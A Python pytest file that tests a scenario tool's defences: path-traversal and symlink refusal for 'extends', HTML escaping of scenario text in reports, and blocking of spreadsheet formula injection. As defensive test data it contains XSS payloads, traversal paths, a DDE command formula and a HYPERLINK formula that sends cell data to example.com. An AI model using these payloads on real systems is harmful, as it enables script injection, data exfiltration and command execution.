"""A scenario's file references stay inside its folder, and markup in inputs stays text.

The only file a scenario names is its parent (``extends``). It is resolved relative to the
scenario and must stay inside the folder of the scenario that was asked for: ``../``, an
absolute path and a symbolic link leading out are refused with an
:class:`~analysis.errors.InputError`, even when the file outside exists and is a valid scenario.

Names, descriptions and sources are the user's text: a report built from a scenario called
``<script>alert(1)</script>`` shows those characters, escaped, and carries no script, no
inline event handler and no request to another site from the input.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import tempfile
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import openpyxl
import pandas as pd
import pytest
from fuzzing import assert_contract
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from analysis import paths
from analysis.errors import InputError
from analysis.scenario import load_scenario

CHILD = "name: Child\ndescription: A child scenario.\nextends: {parent}\n"


@pytest.fixture()
def tree(tmp_path: Path) -> Path:
    """``outside/base.yaml`` (a valid scenario) beside ``scenarios/base.yaml`` and a sub-folder."""
    for folder in ("outside", "scenarios", "scenarios/sub"):
        (tmp_path / folder).mkdir(parents=True, exist_ok=True)
        shutil.copy(paths.default_scenario_path(), tmp_path / folder / "base.yaml")
    return tmp_path


def _refused(path: Path, written: str) -> str:
    with pytest.raises(InputError) as caught:
        load_scenario(path)
    message = caught.value.report()
    assert "key 'extends'" in message
    assert f"found '{written[:50]}" in message  # long values are shortened
    return message


@pytest.mark.parametrize(
    "parent",
    ["../outside/base.yaml", "../../scenarios/../outside/base.yaml", "sub/../../outside/base.yaml"],
)
def test_extends_that_climbs_out_of_the_folder_is_refused(tree: Path, parent: str) -> None:
    child = tree / "scenarios" / "child.yaml"
    child.write_text(CHILD.format(parent=parent), encoding="utf-8")
    message = _refused(child, parent)
    assert "path must stay inside" in message


def test_an_absolute_extends_is_refused_even_to_a_valid_scenario(tree: Path) -> None:
    child = tree / "scenarios" / "child.yaml"
    parent = str(tree / "outside" / "base.yaml")
    child.write_text(CHILD.format(parent=parent), encoding="utf-8")
    assert "path must stay inside" in _refused(child, parent)


def test_a_symbolic_link_leading_out_of_the_folder_is_refused(tree: Path) -> None:
    link = tree / "scenarios" / "linked.yaml"
    os.symlink(tree / "outside" / "base.yaml", link)
    child = tree / "scenarios" / "child.yaml"
    child.write_text(CHILD.format(parent="linked.yaml"), encoding="utf-8")
    assert "path must stay inside" in _refused(child, "linked.yaml")


def test_a_child_in_a_sub_folder_may_not_reach_up_to_the_scenarios_folder(tree: Path) -> None:
    """Containment is relative to the scenario asked for, so a sub-folder is its own jail."""
    child = tree / "scenarios" / "sub" / "child.yaml"
    child.write_text(CHILD.format(parent="../base.yaml"), encoding="utf-8")
    assert "path must stay inside" in _refused(child, "../base.yaml")


def test_extends_inside_the_folder_still_works(tree: Path) -> None:
    child = tree / "scenarios" / "child.yaml"
    child.write_text(CHILD.format(parent="./sub/../base.yaml"), encoding="utf-8")
    scenario = load_scenario(child)
    assert scenario.name == "Child"
    assert [f.parent for f in scenario.files] == [tree / "scenarios"] * 2


segment = st.sampled_from(("..", ".", "sub", "base.yaml", "outside", "scenarios", "", "~", "*"))


@settings(max_examples=60)
@given(
    parts=st.lists(segment, min_size=1, max_size=5),
    absolute=st.booleans(),
)
def test_any_extends_path_loads_from_inside_the_folder_or_is_refused(
    parts: list[str], absolute: bool
) -> None:
    with tempfile.TemporaryDirectory() as name:
        root = Path(name)
        for folder in ("outside", "scenarios", "scenarios/sub"):
            (root / folder).mkdir(parents=True)
            shutil.copy(paths.default_scenario_path(), root / folder / "base.yaml")
        parent = "/".join(parts)
        if absolute:
            parent = str(root / parent)
        child = root / "scenarios" / "child.yaml"
        child.write_text(CHILD.format(parent=f"'{parent}'"), encoding="utf-8")
        outcome = assert_contract(lambda: load_scenario(child), child)
        if outcome.table is not None:
            inside = (root / "scenarios").resolve()
            assert all(f.resolve().is_relative_to(inside) for f in outcome.table.files)


# ---- markup in scenario text stays text in the report -----------------------------------------

SCRIPT = "<script>alert(1)</script>"
IMAGE = '<img src="https://example.com/x.png" onerror="alert(2)">'
LINK = '<a href="javascript:alert(3)" onclick="alert(4)">click</a>'

HOSTILE_CHILD = f"""\
name: "{SCRIPT}"
description: '{IMAGE}'
extends: base.yaml
assumptions:
  agency_share:
    value: 0.2
    source: '{LINK}'
"""


class _Elements(HTMLParser):
    """Every element of a page with its attributes (escaped text is not an element)."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


#: Attributes that make a browser fetch something as the page loads.
_FETCHING = ("src", "srcset", "data", "poster", "action", "formaction", "background")


def _security_findings(html: str) -> list[str]:
    """Scripts, inline event handlers, fetches from other sites and script links in a page."""
    findings = []
    for tag, attrs in _Elements(html).elements:
        if tag == "script":
            findings.append(f"<script> element {attrs}")
        for name, value in attrs.items():
            remote = re.match(r"\s*(https?:)?//", value, re.I)
            if name.startswith("on"):
                findings.append(f"<{tag}> event handler {name}={value!r}")
            if remote and (name in _FETCHING or (tag == "link" and name == "href")):
                findings.append(f"<{tag}> fetches {value!r}")
            if value.strip().lower().startswith("javascript:"):
                findings.append(f"<{tag}> script link {name}={value!r}")
    return findings


def _has_csp(html: str) -> bool:
    return any(
        tag == "meta"
        and attrs.get("http-equiv", "").lower() == "content-security-policy"
        and "default-src 'none'" in attrs.get("content", "")
        for tag, attrs in _Elements(html).elements
    )


def test_a_report_shows_markup_from_a_scenario_as_text(tmp_path: Path) -> None:
    report = pytest.importorskip("analysis.report")
    from analysis.results import Headline, HeadlineFigure

    shutil.copy(paths.default_scenario_path(), tmp_path / "base.yaml")
    child = tmp_path / "hostile.yaml"
    child.write_text(HOSTILE_CHILD, encoding="utf-8")
    scenario = load_scenario(child)
    assert scenario.name == SCRIPT
    source = scenario.assumption("agency_share").source
    assert source == LINK

    # What a notebook shows from a scenario: generated narrative (Markdown), the assumptions
    # table (pandas HTML, escaped) and plain text.
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [
        nbformat.v4.new_markdown_cell("# Hostile scenario"),
        nbformat.v4.new_code_cell(
            "display(...)",
            outputs=[
                nbformat.v4.new_output(
                    "display_data",
                    data={
                        "text/markdown": f"Scenario **{scenario.name}**: "
                        f"{scenario.description} Source: {source}",
                        "text/plain": scenario.name,
                    },
                ),
                nbformat.v4.new_output(
                    "display_data",
                    data={
                        "text/html": scenario.assumptions_table()[["name", "source"]].to_html(),
                        "text/plain": "table",
                    },
                ),
                nbformat.v4.new_output("stream", name="stdout", text=scenario.description),
            ],
        ),
    ]
    page = report.ReportPage(
        title=f"Costs under {scenario.name}",
        reporting_month=pd.Period("2025-03", freq="M"),
        scenario_name=scenario.name,
        headline=Headline(
            notebook="99_hostile",
            title=scenario.name,
            summary=scenario.description,
            figures=(HeadlineFigure(label=LINK, value=SCRIPT, rag="green", note=IMAGE),),
        ),
        provenance={
            "inputs": {f"data/raw/{SCRIPT}.csv": "0" * 64},
            "scenario": {str(child): scenario.sha256},
            "code_version": SCRIPT,
            "packages": {SCRIPT: "1.0"},
            "ran_at": "2025-04-01T09:00:00",
        },
    )
    pages = {
        "report": report.notebook_to_html(notebook, page),
        "index": report.render_index(
            pd.Period("2025-03", freq="M"),
            scenario.name,
            [
                report.IndexEntry(
                    title=scenario.name,
                    headline=page.headline,
                    html_href="01_costs.html",
                    notebook_href="01_costs.ipynb",
                )
            ],
            [report.PackFile(href="pack.xlsx", description=scenario.description)],
            page.provenance,
        ),
    }
    for name, html in pages.items():
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html, name
        assert SCRIPT not in html, name
        assert "&lt;img src=" in html and "&lt;a href=" in html, name
        assert _security_findings(html) == [], name
        assert _has_csp(html), name


def test_the_page_check_finds_scripts_handlers_fetches_and_script_links() -> None:
    page = (
        f"{SCRIPT}{IMAGE}{LINK}<link rel=stylesheet href=//cdn.example.com/x.css>"
        "<p>&lt;script&gt; as text</p>"
    )
    assert len(_security_findings(page)) == 6
    assert not _has_csp(page)


# ---- text in the result workbook stays text -------------------------------------------------


@settings(max_examples=40)
@given(
    texts=st.lists(
        st.one_of(
            st.sampled_from(
                (
                    '=HYPERLINK("https://example.com/?d="&A1,"click")',
                    '=WEBSERVICE("https://example.com")',
                    "=1+1",
                    "=cmd|' /C calc'!A0",
                    "+1+1",
                    "-2+3",
                    "@SUM(1)",
                    SCRIPT,
                )
            ),
            st.text(max_size=20).map(lambda t: "=" + t),
            st.text(max_size=20),
        ),
        min_size=1,
        max_size=5,
    )
)
@example(["=\r"])  # found in CI: a carriage return must survive as itself
def test_text_from_inputs_is_never_a_formula_in_the_result_workbook(texts: list[str]) -> None:
    from analysis.excel import workbook_bytes

    # characters XML cannot hold at all are dropped by the writer, so not generated here
    legal = (
        ILLEGAL_CHARACTERS_RE.sub("", t).replace("\ufffe", "").replace("\uffff", "") for t in texts
    )
    texts = [t for t in legal if t.strip()] or ["=1"]
    frame = pd.DataFrame({texts[0]: texts, "cost_gbp": range(len(texts))})
    raw = workbook_bytes({"names": frame})
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert all("<f>" not in book.read(n).decode() for n in sheets)
    sheet = openpyxl.load_workbook(io.BytesIO(raw))["names"]

    assert [c.value for c in sheet["A"]] == [texts[0], *texts]
